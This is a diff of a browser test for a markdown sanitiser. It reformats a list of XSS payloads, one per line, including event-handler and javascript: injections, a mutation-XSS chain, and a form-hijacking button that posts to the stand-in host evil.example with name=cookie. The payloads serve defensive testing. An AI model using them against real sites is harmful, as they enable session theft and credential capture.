@@ -175,10 +175,15 @@ def test_xss_1_sanitiser_alone_stops_what_the_renderer_would_let_through(visit: 
         """async () => {
           const { sanitise } = await import('/markdown.js');
           const raw = [
-            '<img src=x onerror="window.hacked=1">', '<a href="javascript:window.hacked=1">x</a>',
-            '<a href="/api/auth/logout">x</a>', '<a href="//evil.example">x</a>', '<svg><script>window.hacked=1</script></svg>',
-            '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>', '<p style="background:url(//evil.example)">x</p>',
-            '<button form=signin-form formaction="//evil.example" id=prompt name=cookie>x</button>', '<p onclick=1 data-x=1>x</p>',
+            '<img src=x onerror="window.hacked=1">',
+            '<a href="javascript:window.hacked=1">x</a>',
+            '<a href="/api/auth/logout">x</a>',
+            '<a href="//evil.example">x</a>',
+            '<svg><script>window.hacked=1</script></svg>',
+            '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
+            '<p style="background:url(//evil.example)">x</p>',
+            '<button form=signin-form formaction="//evil.example" id=prompt name=cookie>x</button>',
+            '<p onclick=1 data-x=1>x</p>',
           ];
           const box = document.createElement('div');
           for (const each of raw) box.append(sanitise(each));
